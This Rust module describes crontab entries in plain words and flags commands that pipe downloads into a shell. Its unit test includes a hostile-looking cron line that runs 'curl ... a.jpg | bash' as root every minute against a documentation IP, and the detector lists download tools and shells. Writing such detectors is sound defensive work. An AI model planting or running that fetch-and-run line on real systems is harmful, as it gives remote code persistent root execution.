//! Lines of crontabs in plain words.

use super::sentence::{Sentence, say};

/// What one line of a crontab says (`crontab(5)`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Job {
    /// When, in words.
    pub when: String,
    /// Who runs it, where the line names somebody.
    pub user: Option<String>,
    /// What is run.
    pub command: String,
}

/// The jobs of a crontab's text. `with_user` for tables whose lines name a user.
pub fn jobs(text: &str, with_user: bool) -> Vec<Job> {
    text.lines().take(500).filter_map(|line| job(line, with_user)).collect()
}

/// Whether lines of the crontab at `path` name a user.
pub fn names_user(path: &str) -> bool {
    path.contains("/etc/cron.d/") || path.ends_with("/etc/crontab") || path.ends_with("/etc/anacrontab")
}

/// Whether a path is a crontab's.
pub fn is_crontab(path: &str) -> bool {
    names_user(path) || path.contains("/var/spool/cron/") || path.contains("/etc/crontabs/")
}

fn job(line: &str, with_user: bool) -> Option<Job> {
    let line = line.trim();
    if line.is_empty() || line.starts_with('#') {
        return None;
    }
    let (when, rest) = if let Some(name) = line.strip_prefix('@') {
        let (name, rest) = name.split_once(char::is_whitespace)?;
        (nickname(name)?, rest.trim_start())
    } else {
        let mut rest = line;
        let mut fields = Vec::new();
        for _ in 0..5 {
            let (field, after) = rest.split_once(char::is_whitespace)?;
            if !field.bytes().all(|b| b.is_ascii_alphanumeric() || b"*/,-~?#".contains(&b)) {
                return None;
            }
            fields.push(field);
            rest = after.trim_start();
        }
        (times(&fields), rest)
    };
    let (user, command) = if with_user {
        let (user, command) = rest.split_once(char::is_whitespace)?;
        (Some(user.to_owned()), command.trim_start())
    } else {
        (None, rest)
    };
    Some(Job { when, user, command: command.to_owned() })
}

fn nickname(name: &str) -> Option<String> {
    let when = match name {
        "reboot" => "each time the machine starts",
        "yearly" | "annually" => "once a year",
        "monthly" => "once a month",
        "weekly" => "once a week",
        "daily" | "midnight" => "once a day",
        "hourly" => "every hour",
        _ => return None,
    };
    Some(when.to_owned())
}

fn times(fields: &[&str]) -> String {
    let every = |field: &str| field.strip_prefix("*/").and_then(|n| n.parse::<u32>().ok());
    let number = |field: &str| field.parse::<u32>().ok();
    let days = fields[2..] == ["*", "*", "*"];
    match (fields[0], fields[1]) {
        ("*" | "*/1", "*") if days => "every minute".to_owned(),
        (minute, "*") if days && every(minute).is_some() => {
            format!("every {} minutes", every(minute).unwrap_or_default())
        }
        (minute, "*") if days && number(minute).is_some() => "every hour".to_owned(),
        (minute, hour) if days && number(minute).is_some() && every(hour).is_some() => {
            format!("every {} hours", every(hour).unwrap_or_default())
        }
        (minute, hour) => match (number(minute), number(hour), days) {
            (Some(minute), Some(hour), true) => format!("every day at {hour:02}:{minute:02}"),
            _ => format!("at the times {}", fields.join(" ")),
        },
    }
}

/// The first address with a scheme in a text.
pub fn address(text: &str) -> Option<&str> {
    let at = ["http://", "https://", "ftp://"].iter().filter_map(|scheme| text.find(scheme)).min()?;
    let rest = &text[at..];
    let end = rest.find(|c: char| c.is_whitespace() || "\"'`)|;<>".contains(c)).unwrap_or(rest.len());
    Some(&rest[..end])
}

/// Whether a command line hands what it fetches to a shell.
pub fn fetches_and_runs(command: &str) -> bool {
    let fetches = ["curl ", "wget ", "fetch "].iter().any(|tool| command.contains(tool));
    let shells = ["sh", "bash", "dash", "ash", "zsh", "python", "python3", "perl"];
    let piped = command.split('|').skip(1).any(|part| {
        let mut words = part.split_whitespace().filter(|word| !matches!(*word, "sudo" | "exec" | "nohup"));
        words.next().is_some_and(|word| shells.contains(&word.rsplit('/').next().unwrap_or(word)))
    });
    fetches && (piped || command.contains("<(") || command.contains("$("))
}

/// What a job does, in words; `whose` says on which machine.
pub fn words(job: &Job, whose: &str) -> Sentence {
    let who = job.user.as_deref().map(|user| format!(" as {user}")).unwrap_or_default();
    let head = say(format!("{}{who}, {whose} ", job.when));
    match address(&job.command) {
        Some(url) if fetches_and_runs(&job.command) => {
            head.say("downloads ").code(url).say(" and runs whatever comes back")
        }
        _ => head.say("runs ").code(job.command.clone()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn times_are_said_as_people_say_them() {
        for (line, when) in [
            ("* * * * * x", "every minute"),
            ("*/1 * * * * x", "every minute"),
            ("*/5 * * * * x", "every 5 minutes"),
            ("17 * * * * x", "every hour"),
            ("25 6 * * * x", "every day at 06:25"),
            ("47 6 * * 7 x", "at the times 47 6 * * 7"),
            ("@reboot x", "each time the machine starts"),
        ] {
            assert_eq!(jobs(line, false)[0].when, when, "{line}");
        }
        assert!(jobs("# x\n\nPATH=/bin\nMAILTO=root\n", false).is_empty());
    }

    #[test]
    fn a_download_that_is_run_is_called_so() {
        let job = &jobs("* * * * * root curl -fsSL http://198.51.100.7/a.jpg | bash", true)[0];
        assert_eq!(
            words(job, "the host").text(),
            "every minute as root, the host downloads http://198.51.100.7/a.jpg and runs whatever comes back"
        );
        let job = &jobs("* * * * * curl -o /tmp/x http://198.51.100.7/a | tee log", false)[0];
        assert!(words(job, "cron").text().contains("runs curl"));
    }
}
